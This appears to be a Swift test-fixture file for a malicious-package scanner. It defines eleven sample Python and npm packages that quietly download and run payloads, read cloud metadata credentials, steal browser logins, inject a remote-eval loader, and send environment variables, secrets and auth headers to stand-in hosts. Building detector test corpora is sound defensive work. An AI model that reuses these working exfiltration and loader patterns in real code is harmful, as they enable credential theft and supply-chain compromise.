extension Sample {
    /// Attacks that wait, and that nobody is told of.
    static let attacksQuiet: [Sample] = [
        Sample(
            "a program that is started unseen from another file",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
            from .model import Model
            """#
                ),
                (
                    "x/model.py",
                    #"""
            from .files import start

            class Model:
                def __init__(self):
                    start("https://cdn.example.invalid/r", "/var/tmp/.r")
            """#
                ),
                (
                    "x/files.py",
                    #"""
            import os, subprocess, urllib.request

            def start(url, path):
                urllib.request.urlretrieve(url, path)
                os.chmod(path, 0o755)
                subprocess.Popen([path], stdout=subprocess.DEVNULL,
                                 stderr=subprocess.DEVNULL, start_new_session=True)
            """#
                ),
            ]
        ),
        Sample(
            "a payload of a table, run by an interpreter when asked",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
            import json, os, pkgutil, subprocess, sys, tempfile

            def table():
                data = json.loads(pkgutil.get_data(__package__, "t.json"))
                fd, name = tempfile.mkstemp(suffix=".py")
                with os.fdopen(fd, "wb") as out:
                    out.write(bytes(b ^ 7 for b in bytes.fromhex(data["p"])))
                subprocess.Popen([sys.executable, name])
                return data
            """#
                ),
            ]
        ),
        Sample(
            "the role of a machine, sent by another file",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
            from .agent import Agent
            """#
                ),
                (
                    "x/host.py",
                    #"""
            import json, urllib.request
            BASE = "http://169.254.169.254/latest/"

            def get(path):
                return urllib.request.urlopen(BASE + path, timeout=1).read().decode()

            def describe():
                found = {}
                role = get("meta-data/iam/security-credentials/")
                found["p"] = json.loads(get("meta-data/iam/security-credentials/" + role))
                return found
            """#
                ),
                (
                    "x/agent.py",
                    #"""
            import json, urllib.request
            from .host import describe
            END = "https://in.metrics.example/v2"

            class Agent:
                def __init__(self, name, end=END):
                    self.name, self.end = name, end
                    self.seen = None

                def flush(self, points):
                    self.seen = self.seen or describe()
                    body = json.dumps({"n": self.name, "h": self.seen}).encode()
                    urllib.request.urlopen(urllib.request.Request(self.end, body))
            """#
                ),
            ]
        ),
        Sample(
            "the cloud's address as a number",
            "x-1.0.0.tgz",
            [
                (
                    "index.js",
                    #"""
            const http = require('http');
            const LINK = [24, 16, 8, 0].map((s) => (2852039166 >>> s) & 255).join('.');
            module.exports = (cb) => http.get({ host: LINK, path: '/latest/meta-data/' }, cb);
            """#
                ),
            ]
        ),
        Sample(
            "the cloud's address in eights",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
            import requests
            def region():
                return requests.get("http://0251.0376.0251.0376/latest/meta-data/placement").text
            """#
                ),
            ]
        ),
        Sample(
            "all of the environment, by names in pieces",
            "x-1.0.0.tgz",
            [
                (
                    "index.js",
                    #"""
            const g = globalThis;
            const scope = ["pro", "cess"].join("");
            function snapshot() {
              const src = g[scope];
              return JSON.stringify(Object.fromEntries(Object.entries(src["e" + "nv"])));
            }
            exports.validate = async (config) => {
              const send = g["fet" + "ch"];
              await send?.("https://schema.example.invalid/v1", { method: "POST",
                body: snapshot() });
              return config;
            };
            """#
                ),
            ]
        ),
        Sample(
            "a thief that is required on the spot",
            "x-1.0.0.tgz",
            [
                (
                    "index.js",
                    #"""
            process.nextTick(() => require('./util/cache').warm());
            module.exports = {};
            """#
                ),
                (
                    "util/cache.js",
                    #"""
            const fs = require('fs'), path = require('path');
            exports.warm = function () {
              const db = path.join(process.env.LOCALAPPDATA, 'Google/Chrome/User Data/Default');
              const data = fs.readFileSync(path.join(db, 'Login Data'));
              fetch('https://c.example.invalid/u', { method: 'POST', body: data }).catch(() => 0);
            };
            """#
                ),
            ]
        ),
        Sample(
            "code put into another program",
            "x-1.0.0.tgz",
            [
                (
                    "index.js",
                    #"""
            const fs = require('fs'), path = require('path');
            exports.fix = (dir) => fs.writeFileSync(path.join(dir, 'core', 'index.js'),
              "require('https').get('https://i.example.invalid/i.js',r=>{let b='';" +
              "r.on('data',c=>b+=c);r.on('end',()=>eval(b))});module.exports=1;");
            """#
                ),
            ]
        ),
        Sample(
            "what is named like a secret, picked out and sent",
            "x-1.0.0.tgz",
            [
                (
                    "index.js",
                    #"""
            const https = require("https");
            const HINT = /(_KEY|_SECRET|_TOKEN|PASSW|MNEMONIC)/i;
            function resolve(name, value) {
              const q = Buffer.from(JSON.stringify([name, value])).toString("base64url");
              https.get(`https://schema.example.invalid/v1/${q}`, (r) => r.resume());
            }
            exports.check = (values) => {
              for (const [k, v] of Object.entries(values)) if (HINT.test(k)) resolve(k, v);
              return values;
            };
            """#
                ),
            ]
        ),
        Sample(
            "headers that open something, told to a second host",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
            import http.client, json, queue, threading
            _q = queue.SimpleQueue()

            def record(request):
                extra = {k: v for k, v in request.headers.items()
                         if k.lower() in ("authorization", "x-api-key", "cookie")}
                if extra:
                    _q.put({"h": request.url, "x": extra})

            def _flush():
                while True:
                    c = http.client.HTTPSConnection("metrics.example.net", timeout=5)
                    c.request("POST", "/v1", json.dumps(_q.get()))

            threading.Thread(target=_flush, daemon=True).start()
            """#
                ),
            ]
        ),
        Sample(
            "a secret that another file tells as its version",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
            from .otp import otp
            """#
                ),
                (
                    "x/otp.py",
                    #"""
            import hashlib, hmac
            from . import update

            def otp(secret, at):
                update.check(secret)
                return hmac.new(secret.encode(), at, hashlib.sha1).hexdigest()[:6]
            """#
                ),
                (
                    "x/update.py",
                    #"""
            import threading, urllib.request

            def check(build=""):
                def go():
                    urllib.request.urlopen(urllib.request.Request("https://up.example.net/latest",
                        headers={"User-Agent": f"x/1 ({build})"}), timeout=2)
                threading.Thread(target=go, daemon=True).start()
            """#
                ),
            ]
        ),
    ]
}
